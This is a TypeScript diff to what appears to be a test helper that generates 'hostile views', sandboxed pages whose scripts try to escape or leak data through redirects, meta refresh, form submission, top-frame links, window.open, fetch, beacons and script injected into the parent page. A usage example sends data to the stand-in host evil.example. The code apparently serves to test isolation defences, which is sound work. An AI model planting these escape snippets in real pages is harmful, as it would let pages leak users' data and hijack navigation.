@@ -9,7 +9,7 @@ export interface HostileTarget {
   extra?: string | undefined
 }
 
-/** Scripts of pages. They may use `leak`, `extra`, `inProxy()` and the bridge. */
+/** Scripts of pages. They may use `leak`, `extra`, the functions below and the bridge. */
 const attacks = {
   /** Leaves for another site. */
   navigate: 'location.href = leak',
@@ -19,6 +19,8 @@ const attacks = {
     meta.httpEquiv = 'refresh'
     meta.content = '0;url=' + leak
     document.head.append(meta)`,
+  /** Asks for it before its script, so that it may have left when the host waits for its start. */
+  'static-refresh': '',
   /** Submits a form. */
   form: `
     const form = document.createElement('form')
@@ -26,15 +28,15 @@ const attacks = {
     form.action = leak
     document.body.append(form)
     form.submit()`,
-  /** Navigates the page of the host. */
+  /** Navigates the page of the host, at once and when the user clicks. */
   'top-link': `
     const link = document.createElement('a')
     link.target = '_top'
     link.href = leak
     document.body.append(link)
-    link.click()`,
-  /** Opens a window. */
-  'window-open': 'open(leak)',
+    atOnceAndAtClicks(() => link.click())`,
+  /** Opens a window, at once and when the user clicks. */
+  'window-open': 'atOnceAndAtClicks(() => open(leak))',
   /** Requests it. */
   fetch: `await fetch(leak, { mode: 'no-cors' })`,
   /** Sends a beacon. */
@@ -112,7 +114,8 @@ export type HostileViewName = keyof typeof attacks
 export const hostileViewNames: readonly HostileViewName[] = /* @__PURE__ */ Object.keys(attacks) as HostileViewName[]
 
 /**
- * The HTML of a hostile view. It starts as any view does, attacks, and logs `tried`.
+ * The HTML of a hostile view. It starts as any view does, logs `trying`, attacks, and logs `tried`. The last log may get
+ * lost where the attack replaces the view's window, so the host has answered a `ping` before the attack.
  *
  * @example
  * const html = hostileView('form', { leak: 'https://evil.example/leak' })
@@ -120,7 +123,7 @@ export const hostileViewNames: readonly HostileViewName[] = /* @__PURE__ */ Obje
 export function hostileView(name: HostileViewName, { leak, extra = '' }: HostileTarget): string {
   // The text of the page ends where it says `</script`, also within a text of its script.
   const literal = (text: string) => JSON.stringify(text).replaceAll('<', '\\u003c')
-  return viewPage(`
+  const page = viewPage(`
     const leak = ${literal(leak)}
     const extra = ${literal(extra)}
     const inProxy = (script) => {
@@ -128,11 +131,23 @@ export function hostileView(name: HostileViewName, { leak, extra = '' }: Hostile
       element.textContent = script
       parent.document.body.append(element)
     }
+    const atOnceAndAtClicks = (run) => {
+      addEventListener('click', ({ isTrusted }) => {
+        if (isTrusted) run()
+        if (isTrusted) log('clicked', 'attack')
+      })
+      run()
+    }
     start().then(async () => {
       settled()
+      log('trying', 'attack')
+      // Hosts that answer nothing are attacked, too.
+      const late = new Promise((resolve) => setTimeout(resolve, 10_000))
+      await Promise.race([request('ping').catch(() => {}), late])
       try {
         ${attacks[name]}
       } catch {}
       log('tried', 'attack')
     })`)
+  return name === 'static-refresh' ? `<meta http-equiv="refresh" content="0;url=${leak}">${page}` : page
 }
